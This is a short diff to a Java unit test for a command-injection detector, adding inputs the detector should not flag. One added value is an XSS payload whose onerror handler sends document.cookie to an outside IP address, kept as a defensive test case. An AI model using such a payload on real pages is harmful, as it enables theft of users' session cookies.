@@ -91,6 +91,9 @@ class CommandInjectionTest {
         "echo park",
         "kill bill",
         "dir=asc",
+        // a URL's '?' is a query, not a glob: an XSS payload that fetches a URL is no command
+        "<img src=x onerror=fetch('//198.51.100.9/c?'+document.cookie)>",
+        "go(//cdn.example.net/a?b)",
     })
     void ignores(String value) {
         assertThat(CommandInjection.detect(value)).as(value).isEmpty();
